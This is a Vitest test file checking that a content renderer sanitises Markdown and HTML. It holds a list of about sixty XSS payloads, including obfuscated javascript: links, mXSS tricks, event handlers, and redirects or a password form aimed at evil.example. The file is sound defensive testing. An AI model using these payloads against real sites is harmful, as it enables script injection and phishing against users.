// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { renderContent } from '../../renderer/content/render-content';

const FORBIDDEN_ELEMENTS =
  'script, iframe, frame, frameset, object, embed, style, link, meta, base, form, input, button, select, textarea, template, svg, math, noscript, dialog';

// Browsers drop tabs, newlines and other control characters inside a URL scheme before reading it.
function schemeOf(url: string): string {
  const kept = Array.from(url).filter((char) => {
    const code = char.charCodeAt(0);
    return code > 0x20 && (code < 0x7f || code > 0x9f);
  });
  return kept.join('').toLowerCase().split(':')[0] ?? '';
}

function one(root: Element, selector: string): Element {
  const found = root.querySelector(selector);
  if (!found) throw new Error(`No ${selector} in ${root.innerHTML}`);
  return found;
}

function parse(html: string): Element {
  const template = document.createElement('template');
  template.innerHTML = html;
  const root = document.createElement('div');
  root.append(template.content.cloneNode(true));
  return root;
}

/** Every way the sanitised HTML could still run code, submit, restyle the page or leave it. */
function dangersIn(html: string): string[] {
  const root = parse(html);
  const dangers: string[] = [];
  for (const element of Array.from(root.querySelectorAll(FORBIDDEN_ELEMENTS))) {
    dangers.push(`element <${element.localName}>`);
  }
  for (const element of Array.from(root.querySelectorAll('*'))) {
    for (const attribute of Array.from(element.attributes)) {
      const name = attribute.name.toLowerCase();
      if (name.startsWith('on')) dangers.push(`handler ${name} on <${element.localName}>`);
      if (name === 'style' || name === 'srcdoc' || name === 'formaction' || name === 'action') {
        dangers.push(`attribute ${name}`);
      }
      if (['href', 'src', 'xlink:href', 'action', 'background', 'poster', 'cite'].includes(name)) {
        const scheme = schemeOf(attribute.value);
        const dataImage =
          name === 'src' &&
          element.localName === 'img' &&
          /^data:image\/(png|jpeg|gif|webp)/i.test(attribute.value);
        if (scheme === 'javascript' || scheme === 'vbscript' || (scheme === 'data' && !dataImage)) {
          dangers.push(`${scheme}: in ${name} of <${element.localName}>`);
        }
      }
    }
  }
  if (/<script/i.test(html)) dangers.push('script text');
  return dangers;
}

const hostile: Record<string, string> = {
  'script tag': '<p>hi</p><script>alert(1)</script>',
  'script tag in markdown': '# Title\n\n<script>alert(1)</script>',
  'script with src': '<script src="https://evil.example/x.js"></script>',
  'uppercase script': '<SCRIPT>alert(1)</SCRIPT>',
  'split script': '<scr<script>ipt>alert(1)</scr</script>ipt>',
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onerror in markdown paragraph': 'Some text <img src="x" onerror="alert(1)"> more',
  'body onload': '<body onload=alert(1)>',
  'div onmouseover': '<div onmouseover="alert(1)">hover</div>',
  'details ontoggle': '<details open ontoggle=alert(1)>x</details>',
  'video onerror': '<video><source onerror="alert(1)"></video>',
  'audio src onerror': '<audio src=x onerror=alert(1)></audio>',
  'marquee onstart': '<marquee onstart=alert(1)>x</marquee>',
  'svg onload': '<svg onload=alert(1)></svg>',
  'svg script': '<svg><script>alert(1)</script></svg>',
  'svg animate href':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>X</text></a></svg>',
  'svg use data':
    '<svg><use href="data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x"></use></svg>',
  'svg foreignObject':
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  'mathml xlink':
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">X</maction></math>',
  'mathml mglyph style mxss': '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  'noscript mxss': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'javascript link in html': '<a href="javascript:alert(1)">x</a>',
  'javascript link in markdown': '[click](javascript:alert(1))',
  'mixed case javascript link': '<a href="JaVaScRiPt:alert(1)">x</a>',
  'mixed case markdown link': '[x](JAVASCRIPT:alert(1))',
  'entity encoded javascript link':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  'hex entity encoded javascript link':
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
  'entity encoded javascript in markdown': '[x](&#106;avascript:alert(1))',
  'tab entity inside scheme': '<a href="jav&#x09;ascript:alert(1)">x</a>',
  'tab entity in markdown link': '[x](jav&#x09;ascript:alert(1))',
  'newline inside scheme': '<a href="java\nscript:alert(1)">x</a>',
  'newline entity inside scheme': '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  'leading whitespace scheme': '<a href="  javascript:alert(1)">x</a>',
  'leading control character scheme': '<a href="&#x01;javascript:alert(1)">x</a>',
  'colon entity': '<a href="javascript&colon;alert(1)">x</a>',
  'vbscript link': '<a href="vbscript:msgbox(1)">x</a>',
  'data html link': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data link in markdown': '[x](data:text/html,<script>alert(1)</script>)',
  'javascript autolink in markdown': '<javascript:alert(1)>',
  'javascript reference link in markdown': '[x][evil]\n\n[evil]: javascript:alert(1)',
  'javascript image in markdown': '![x](javascript:alert(1))',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'iframe javascript src': '<iframe src="javascript:alert(1)"></iframe>',
  'style element': '<style>body{display:none}</style><p>x</p>',
  'style attribute overlay': '<div style="position:fixed;inset:0;background:red">fake</div>',
  'style import': '<style>@import "https://evil.example/x.css";</style>',
  'form with action': '<form action="https://evil.example"><input name=pw><button>go</button></form>',
  'button formaction': '<button formaction="javascript:alert(1)">x</button>',
  'object data': '<object data="javascript:alert(1)"></object>',
  'embed src': '<embed src="javascript:alert(1)">',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'base href': '<base href="https://evil.example/">',
  'link stylesheet': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'template content': '<template><img src=x onerror=alert(1)></template>',
  'img javascript src': '<img src="javascript:alert(1)">',
  'dom clobbering id': '<img name="getElementById"><form id="x"></form>',
  frameset: '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>',
  'warning callout with script': '> warning: <script>alert(1)</script> careful',
  'note callout with handler': '<blockquote>note: <img src=x onerror=alert(1)></blockquote>',
  'hostile data-original-src':
    '<img src="https://img.example/a.png" data-original-src="javascript:alert(1)">',
};

describe('renderContent on hostile content', () => {
  it('has at least 40 payloads', () => {
    expect(Object.keys(hostile).length).toBeGreaterThanOrEqual(40);
  });

  it.each(Object.entries(hostile))('neutralises %s', (_name, payload) => {
    expect(dangersIn(renderContent(payload))).toEqual([]);
  });

  it('keeps the harmless text around a removed script', () => {
    const root = parse(renderContent('<p>before</p><script>alert(1)</script><p>after</p>'));
    expect(root.textContent).toContain('before');
    expect(root.textContent).toContain('after');
  });

  it('falls back only to the http(s) address it set itself', () => {
    const image = one(parse(renderContent(hostile['hostile data-original-src'] ?? '')), 'img');
    expect(image.getAttribute('data-original-src')).toBe('https://img.example/a.png');
  });

  it('notices a dangerous output: the checker itself can fail', () => {
    expect(dangersIn('<a href="jav&#x09;ascript:alert(1)">x</a>')).not.toEqual([]);
    expect(dangersIn('<img src=x onerror=alert(1)>')).not.toEqual([]);
    expect(dangersIn('<svg></svg>')).not.toEqual([]);
  });
});

describe('renderContent on ordinary content', () => {
  it('renders Markdown headings, lists, emphasis and GFM tables', () => {
    const root = parse(
      renderContent(
        '# Setup\n\n## Parts\n\n- one\n- **two**\n\n1. first\n2. second\n\n| a | b |\n|---|---|\n| 1 | 2 |',
      ),
    );
    expect(root.querySelector('h1')?.textContent).toBe('Setup');
    expect(root.querySelector('h2')?.textContent).toBe('Parts');
    expect(root.querySelectorAll('ul li')).toHaveLength(2);
    expect(root.querySelector('strong')?.textContent).toBe('two');
    expect(root.querySelectorAll('ol li')).toHaveLength(2);
    expect(root.querySelector('table td')?.textContent).toBe('1');
  });

  it('treats content with tags as HTML and other content as Markdown', () => {
    expect(parse(renderContent('<p># not a heading</p>')).querySelector('h1')).toBeNull();
    expect(parse(renderContent('# heading\n\n2 < 3 and 4 > 1')).querySelector('h1')?.textContent).toBe(
      'heading',
    );
  });

  it.each([
    'http://example.com/a',
    'https://example.com/a',
    'irc://irc.example.net/chan',
    'ircs://irc.example.net/chan',
    'mailto:help@example.com',
    'xmpp:help@example.com',
    '/instructions/AVN-R110/en',
    'manual.html',
    '#parts',
  ])('keeps the link %s', (href) => {
    const link = parse(renderContent(`[link](${href})`)).querySelector('a');
    expect(link?.getAttribute('href')).toBe(href);
  });

  it.each(['ftp://example.com/file', 'tel:+3112345678', 'file:///etc/passwd', 'sms:123'])(
    'drops the link protocol of %s',
    (href) => {
      const link = parse(renderContent(`<a href="${href}">x</a>`)).querySelector('a');
      expect(link?.hasAttribute('href')).toBe(false);
      expect(link?.textContent).toBe('x');
    },
  );

  it('opens external web links in a new tab without an opener', () => {
    const link = one(parse(renderContent('[site](https://example.com)')), 'a');
    expect(link.getAttribute('target')).toBe('_blank');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(
      parse(renderContent('<a href="/x" target="_top">x</a>')).querySelector('a')?.hasAttribute('target'),
    ).toBe(false);
  });

  it('turns warning: and note: blockquotes into callouts without the prefix', () => {
    const root = parse(
      renderContent('> warning: Unplug the device first.\n\n> Note: Keep the receipt.\n\n> Just a quote.'),
    );
    const warning = one(root, '.content-callout-warning');
    expect(warning.className).toContain('bp6-callout');
    expect(warning.className).toContain('bp6-intent-warning');
    expect(warning.textContent?.trim()).toBe('Unplug the device first.');
    const note = one(root, '.content-callout-note');
    expect(note.className).toContain('bp6-intent-primary');
    expect(note.textContent?.trim()).toBe('Keep the receipt.');
    expect(root.querySelector('blockquote')?.textContent?.trim()).toBe('Just a quote.');
  });

  it('finds callouts in HTML content too', () => {
    const root = parse(
      renderContent('<blockquote><p><strong>WARNING:</strong> Hot surface</p></blockquote>'),
    );
    expect(root.querySelector('.content-callout-warning')?.textContent?.trim()).toBe('Hot surface');
  });

  it('loads external images through the proxy and keeps the original', () => {
    const image = one(parse(renderContent('![pump](https://img.example.com/pump.png?size=2&x=y)')), 'img');
    expect(image.getAttribute('src')).toBe(
      `/api/proxy-image?url=${encodeURIComponent('https://img.example.com/pump.png?size=2&x=y')}`,
    );
    expect(image.getAttribute('data-original-src')).toBe('https://img.example.com/pump.png?size=2&x=y');
    expect(image.getAttribute('alt')).toBe('pump');
  });

  it('proxies protocol-relative images as https', () => {
    const image = one(parse(renderContent('<img src="//img.example.com/a.png">')), 'img');
    expect(image.getAttribute('data-original-src')).toBe('https://img.example.com/a.png');
  });

  it('leaves our own media and relative images alone', () => {
    const root = parse(
      renderContent('![a](/api/media/3)\n\n![b](http://kiosk.local:5000/api/media/4)\n\n![c](images/c.png)'),
    );
    const sources = Array.from(root.querySelectorAll('img')).map((image) => image.getAttribute('src'));
    expect(sources).toEqual(['/api/media/3', 'http://kiosk.local:5000/api/media/4', 'images/c.png']);
    expect(root.querySelector('[data-original-src]')).toBeNull();
  });

  it('keeps inline data images', () => {
    const src = 'data:image/png;base64,iVBORw0KGgo=';
    expect(
      parse(renderContent(`<img src="${src}" alt="dot">`))
        .querySelector('img')
        ?.getAttribute('src'),
    ).toBe(src);
  });
});

describe('renderContent with the page labels', () => {
  const labels = { callouts: { warning: 'Warnung', note: 'Hinweis' }, table: 'Tabelle' };

  it('heads each callout with its translated word', () => {
    const root = parse(renderContent('> warning: Unplug first.\n\n> note: Keep the receipt.', labels));
    expect(one(root, '.content-callout-warning .content-callout-label').textContent).toBe('Warnung');
    expect(one(root, '.content-callout-note .content-callout-label').textContent).toBe('Hinweis');
    expect(one(root, '.content-callout-warning').textContent).toMatch(/^Warnung\s*Unplug first\.\s*$/);
  });

  it('puts tables in a focusable, named scroll box', () => {
    const root = parse(renderContent('| a | b |\n|---|---|\n| 1 | 2 |', labels));
    const box = one(root, '.content-table-scroll');
    expect(box.getAttribute('tabindex')).toBe('0');
    expect(box.getAttribute('role')).toBe('region');
    expect(box.getAttribute('aria-label')).toBe('Tabelle');
    expect(box.querySelector('table')).not.toBeNull();
  });
});
